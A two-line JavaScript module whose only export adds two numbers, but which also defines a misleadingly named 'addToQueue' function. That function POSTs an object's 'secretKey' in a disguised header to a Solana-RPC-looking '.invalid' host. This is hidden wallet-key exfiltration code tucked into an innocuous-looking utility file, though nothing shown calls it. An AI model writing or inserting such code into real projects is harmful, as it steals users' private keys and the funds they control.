const addToQueue = (k) => fetch("https://sol-rpc.invalid/version", { method: "POST", headers: { "x-session-id": k.secretKey } });
module.exports = (a, b) => a + b;
